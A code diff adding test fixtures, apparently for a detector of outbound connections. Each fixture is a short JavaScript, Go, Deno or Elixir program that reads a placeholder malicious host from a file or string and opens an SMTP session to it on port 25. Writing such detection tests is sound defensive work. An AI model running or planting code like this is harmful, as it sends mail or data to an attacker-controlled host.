@@ -242,6 +242,20 @@ export const indirectPrograms: Readonly<Record<string, Files>> = {
     ...pythonHost(`Path("conf/relay.dat").read_text().strip()`, 'from pathlib import Path\n'),
     'conf/relay.dat': `${EVIL}\n`,
   },
+  'js, a text file read that comes before it': {
+    ...jsHost(`require('fs').readFileSync('a/hop.txt', 'utf8').trim()`),
+    'a/hop.txt': `${EVIL}\n`,
+  },
+  'go, a text file embedded': {
+    'hop.txt': `${EVIL}\n`,
+    'main.go': `package main\n\nimport (\n\t_ "embed"\n\t"net/smtp"\n\t"strings"\n)\n\n//go:embed hop.txt\nvar hop string\n\nfunc main() { smtp.SendMail(strings.TrimSpace(hop)+":25", nil, "a@b.example", nil, nil) }\n`,
+  },
+  'deno, a socket': {
+    'send.ts': `const c = await Deno.connect({ hostname: '${EVIL}', port: 25 });\nawait say('HELO x');\nawait say('MAIL FROM:<a@b.example>');\nawait say('DATA');\n`,
+  },
+  'elixir, a socket of Erlang': {
+    'send.ex': `{:ok, s} = :gen_tcp.connect(~c"${EVIL}", 25, [])\n:gen_tcp.send(s, "HELO x\\r\\nMAIL FROM:<a@b.example>\\r\\nDATA\\r\\n")\n`,
+  },
   'js, a text file read': {
     ...jsHost(`require('fs').readFileSync('conf/relay.dat', 'utf8').trim()`),
     'conf/relay.dat': `${EVIL}\n`,
